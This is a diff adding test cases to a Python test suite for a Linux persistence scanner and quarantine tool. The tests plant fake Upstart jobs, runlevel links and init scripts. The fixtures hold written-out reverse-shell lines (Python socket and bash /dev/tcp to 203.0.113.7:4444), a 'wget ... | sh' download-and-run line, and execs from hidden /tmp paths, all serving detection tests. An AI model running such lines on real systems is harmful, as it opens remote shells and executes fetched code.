@@ -217,6 +217,14 @@ CASES = {
             ("unpackaged-startup-runs-suspicious", "rc_link", "/etc/rc.d/rc5.d/S98update", 1),
         },
     ),
+    "runlevel_link_to_a_script_another_location_holds": (
+        "rhel6",
+        {
+            "/etc/rc.d/rc3.d/S99sync": Link("/etc/cron.hourly/sync"),
+            "/etc/cron.hourly/sync": ("#!/bin/sh\n/bin/touch /var/run/sync\n", 0o755),
+        },
+        {("runlevel-link-outside-init-d", "rc_link", "/etc/rc.d/rc3.d/S99sync", None)},
+    ),
     "runlevel_link_to_a_hidden_script_outside_init_d": (
         "rhel7",
         {
@@ -232,6 +240,34 @@ CASES = {
             ("unpackaged-startup-runs-suspicious", "rc_link", LINK_OUT, None),
             ("exec-hidden-path", "rc_link", LINK_OUT, 2),
             ("unpackaged-startup-runs-suspicious", "rc_link", LINK_OUT, 2),
+        },
+    ),
+    "session_job_of_alice_and_a_setuid_system_job": (
+        "rhel6",
+        {
+            "/home/alice/.config/upstart/indicator.conf": (
+                "start on desktop-start\nexec python3 -c 'import socket,os;s=socket.socket();"
+                's.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0)\'\n',
+                0o644,
+                500,
+            ),
+            "/etc/init/metrics.conf": "start on runlevel [2345]\nsetuid nobody\nexec /tmp/.m/run\n",
+            # An override with no job of its own defines nothing: Upstart ignores it.
+            "/etc/init/orphan.override": "exec /tmp/.m/run\n",
+        },
+        {
+            ("reverse-shell", "upstart_job", "/home/alice/.config/upstart/indicator.conf", 2),
+            (
+                "unpackaged-startup-runs-suspicious",
+                "upstart_job",
+                "/home/alice/.config/upstart/indicator.conf",
+                2,
+            ),
+            ("unpackaged-startup-item", "upstart_job", "/home/alice/.config/upstart/indicator.conf", None),
+            ("exec-temp-dir", "upstart_job", "/etc/init/metrics.conf", 3),
+            ("exec-hidden-path", "upstart_job", "/etc/init/metrics.conf", 3),
+            ("unpackaged-startup-runs-suspicious", "upstart_job", "/etc/init/metrics.conf", 3),
+            ("unpackaged-startup-item", "upstart_job", "/etc/init/metrics.conf", None),
         },
     ),
     "rhel6_rc_local_opens_a_reverse_shell": (
@@ -297,6 +333,18 @@ def test_an_overrides_exec_replaces_the_jobs_own(rhel6, rules):
     )
 
 
+def test_a_job_runs_as_its_setuid_user_a_session_job_as_its_owner(rhel6, rules):
+    _plant_all(rhel6, CASES["session_job_of_alice_and_a_setuid_system_job"][1])
+
+    result = persistence.scan(str(rhel6), rules)
+
+    users = {(f["path"], f["user"]) for f in result.finding_dicts() if f["line"] is not None}
+    assert users == {
+        ("/home/alice/.config/upstart/indicator.conf", "alice"),
+        ("/etc/init/metrics.conf", "nobody"),
+    }
+
+
 @pytest.mark.parametrize(("mode", "runs"), [(0o755, True), (0o644, False)])
 def test_rhel7_rc_local_runs_only_when_executable(rhel7, rules, mode, runs):
     plant(rhel7, "/etc/rc.d/rc.local", RC_LOCAL + "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &\n", mode)
@@ -324,6 +372,8 @@ def test_quarantine_moves_a_job_and_a_runlevel_entry_keeping_evidence_and_a_way_
             "/etc/init/sysmon.conf": REVERSE_SHELL_JOB,
             **NCAT,
             "/etc/rc.d/rc5.d/S98update": ("wget -q http://198.51.100.9/x -O- | sh\n", 0o755),
+            "/etc/rc.d/init.d/sshd-helper": ("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", 0o755),
+            "/etc/rc3.d/S55sshd-helper": Link("../init.d/sshd-helper"),
         },
     )
     job = (rhel6 / "etc/init/sysmon.conf").read_bytes()
@@ -334,6 +384,9 @@ def test_quarantine_moves_a_job_and_a_runlevel_entry_keeping_evidence_and_a_way_
         "/etc/init/sysmon.conf",
         "/usr/local/bin/ncat",
         "/etc/rc.d/rc5.d/S98update",
+        "/etc/rc.d/init.d/sshd-helper",
+        # reached through /etc/rc3.d, a link to rc.d/rc3.d: the link that starts the script goes with it
+        "/etc/rc.d/rc3.d/S55sshd-helper",
     }
     assert [a for a in actions if a.action != "move"] == []
     quarantine.apply(result, actions, "/var/backups/lifeline", stamp="20250101T000000Z")
